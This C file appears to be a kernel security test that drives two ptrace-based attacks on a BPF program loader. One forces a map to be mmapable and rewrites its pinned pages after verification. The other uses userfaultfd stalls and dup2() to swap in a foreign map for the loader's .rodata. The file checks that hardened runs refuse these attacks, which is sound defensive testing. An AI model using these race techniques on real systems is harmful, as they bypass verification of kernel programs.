// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * ATTACKS row 12 - attacks of a tracer that take more than one stop; both win on mainline, each time
 */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "held.h"
#include "pinned.h"
#include "scene.h"

#define RODATA	   VICTIM_MAPS /* its number is that much above the BTF's, the first that the loader takes */
#define LOG_SIZE   65536
#define LOG_BEFORE 8 /* bytes of the log before its first page ends; that no store is on both pages */

#define SIZE_TO(member) (offsetof(union bpf_attr, member) + sizeof(((union bpf_attr *)0)->member))

/* Mainline: he wins. In a closed run: not, and with @refused the run is refused. */
static void conclude(struct scene *s, bool refused)
{
	bool mainline = attack_on_mainline(s->m);

	if (s->won != mainline)
		attack_fail(s->m, "a program of the loader %s on other data", s->won ? "runs" : "does not run");
	else if (!mainline && s->seen == refused)
		attack_fail(s->m, "the run was %srefused", s->seen ? "not " : "");
}

/* The caller's map can be mapped; its pages are pinned once written, then it is frozen as usual. */
static void pin(struct scene *s, struct traced *t, struct ring *ring, void **at)
{
	uint32_t mappable = BPF_F_MMAPABLE;
	union bpf_attr attr = {0};
	int fd;

	if (t->entry && calls(t, BPF_MAP_CREATE)) {
		traced_write(t, t->args[1] + offsetof(union bpf_attr, map_flags), &mappable, sizeof(mappable));
	} else if (!t->entry && calls(t, BPF_MAP_UPDATE_ELEM)) {
		traced_read(t, t->args[1], &attr, SIZE_TO(flags));
		fd = traced_fd(t, attr.map_fd);
		*at = pinned_map(ring, fd, s->l.data_sz);
		close(fd);
	}
}

/**
 * ptrace_pinned() - the metadata are others when the loader runs than when they were verified
 * @m: the machine
 */
void ptrace_pinned(struct machine *m)
{
	struct ring ring = {.fd = -1};
	bool written = false;
	struct traced t;
	void *at = NULL;
	struct scene s;

	if (!scene_open(m, &s) && !scene_start(&s, &t)) {
		while (traced_next(&t)) {
			scene_judge(&s);
			pin(&s, &t, &ring, &at);
			if (loader_ctx(&t) && at)
				written = !pinned_write(&ring, at, s.other, s.l.data_sz);
		}
		scene_end(&s, &t);
		conclude(&s, true);
	}
	if (!written)
		attack_fail(m, "the pinned pages cannot be written");
	close(ring.fd);
	scene_close(&s);
}

/* The loader's log, in memory that the caller shares: so a page of it can be taken away again. */
struct log {
	int file, uffd; /* uffd is the caller's */
	char *at;
	int base;    /* the first number that the loader takes */
	pid_t tid;   /* the thread */
	int faults;  /* in which the run waited */
	long answer; /* of its last dup2() */
};

static int log_open(struct log *g)
{
	g->file = memfd_create("log", MFD_CLOEXEC);
	if (g->file < 0 || ftruncate(g->file, LOG_SIZE))
		return -1;
	g->at = mmap(NULL, LOG_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, g->file, 0);
	return g->at == MAP_FAILED ? -1 : 0;
}

/* A descriptor of the caller's that is ours alone then, so that the loader's numbers are not others. */
static int take_fd(struct traced *t, int fd)
{
	int own = traced_fd(t, fd);

	traced_call(t, __NR_close, fd, 0, 0);
	return own;
}

/* Before the run: faults of the log come to us, and there is a thread that shares the table. */
static int log_set(struct log *g, struct traced *t, uint64_t ctx)
{
	static char stack[4096] __attribute__((aligned(16)));
	uint32_t level_size[2] = {2, LOG_SIZE - HELD_PAGE};
	uint64_t buf = (uintptr_t)g->at + HELD_PAGE - LOG_BEFORE;

	g->base = traced_call(t, __NR_dup, 0, 0, 0);
	traced_call(t, __NR_close, g->base, 0, 0);
	g->uffd = take_fd(t, traced_call(t, __NR_userfaultfd, O_CLOEXEC | O_NONBLOCK, 0, 0));
	g->tid = traced_thread(t, stack + sizeof(stack));
	if (traced_write(t, ctx + 8, level_size, sizeof(level_size)) || traced_write(t, ctx + 16, &buf, sizeof(buf)))
		return -1;
	return g->uffd < 0 || g->tid < 0 || held_watch(g->uffd, g->at, LOG_SIZE) ? -1 : 0;
}

/* The thread's dup2() over the number of .rodata, where the run has that; a number that is free is left to it. */
static void put_over(struct scene *s, struct log *g)
{
	int n = g->base + RODATA;
	bool open = traced_thread_call(g->tid, __NR_fcntl, n, F_GETFD, 0) >= 0;

	g->answer = traced_thread_call(g->tid, __NR_dup2, s->map, n, 0);
	if (!open && g->answer == n)
		traced_thread_call(g->tid, __NR_close, n, 0, 0);
}

/*
 * A log is written from its beginning each time, and ends beyond its first page: that is missing again when
 * the next log begins. The first is the BTF's, the second the program's, whose maps are looked up later.
 */
static void log_fault(struct scene *s, struct log *g)
{
	uint64_t page;

	if (!held_fault(g->uffd, &page))
		return;
	g->faults++;
	put_over(s, g);
	if (page != (uintptr_t)g->at)
		fallocate(g->file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, HELD_PAGE);
	held_fill(g->uffd, (void *)(uintptr_t)page, NULL);
}

/* The run, from its beginning to its end. Return: false if the caller is gone. */
static bool log_run(struct scene *s, struct log *g, struct traced *t)
{
	bool gone = false;

	if (!traced_go(t))
		return false;
	while (!gone && !traced_arrived(t, false, &gone)) {
		log_fault(s, g);
		usleep(100);
	}
	return !gone;
}

/**
 * ptrace_thread() - own map over the number of .rodata, by a thread, when the loader is past its freeze
 * @m: the machine
 */
void ptrace_thread(struct machine *m)
{
	struct log g = {.file = -1, .uffd = -1};
	bool on = true;
	struct traced t;
	struct scene s;

	if (!scene_open(m, &s) && !log_open(&g) && !scene_start(&s, &t)) {
		while (on && traced_next(&t)) {
			uint64_t ctx = loader_ctx(&t);

			if (ctx && log_set(&g, &t, ctx))
				attack_fail(m, "the log cannot be held up");
			else if (ctx)
				on = log_run(&s, &g, &t);
			scene_judge(&s);
		}
		scene_end(&s, &t);
		conclude(&s, false);
		if (!attack_on_mainline(m) && g.answer != -EBUSY)
			attack_fail(m, "dup2() over the loader's number: %ld", g.answer);
	}
	if (!g.faults)
		attack_fail(m, "the run did not wait in its log");
	close(g.uffd);
	close(g.file);
	munmap(g.at, LOG_SIZE);
	scene_close(&s);
}
